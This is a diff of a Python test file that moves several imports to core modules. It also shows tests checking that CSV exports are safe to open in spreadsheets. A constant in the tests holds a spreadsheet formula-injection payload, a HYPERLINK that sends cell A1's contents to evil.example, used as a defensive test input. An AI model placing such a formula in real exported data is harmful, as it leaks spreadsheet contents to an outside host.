@@ -8,9 +8,9 @@ import io
 import duckdb
 from typer.testing import CliRunner
 
+from core.errors import CheckFailed
+from core.home import Home
 from flows.cli import app
-from warehouse.errors import CheckFailed
-from warehouse.home import Home
 from warehouse.spreadsheet import safe_cell, write_csv
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -57,8 +57,8 @@ def test_check_report_csv_is_spreadsheet_safe(home: Home, con: duckdb.DuckDBPyCo
 
 
 def test_verifier_review_export_is_spreadsheet_safe(con: duckdb.DuckDBPyConnection, home: Home, tmp_path) -> None:
+    from core.store import LocalStore
     from signing import export_review
-    from signing.store import LocalStore
     from tests.signing.rows import ready_member
 
     store = LocalStore(home.objects_dir)
